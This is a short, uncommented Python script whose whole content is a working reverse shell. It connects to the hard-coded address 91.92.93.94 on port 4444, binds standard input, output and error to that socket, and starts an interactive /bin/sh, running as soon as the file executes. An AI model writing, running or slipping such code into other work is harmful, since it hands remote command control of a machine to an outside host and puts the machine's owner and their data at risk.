import socket, subprocess, os
def rs():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("91.92.93.94", 4444))
    os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
    subprocess.call(["/bin/sh", "-i"])
rs()
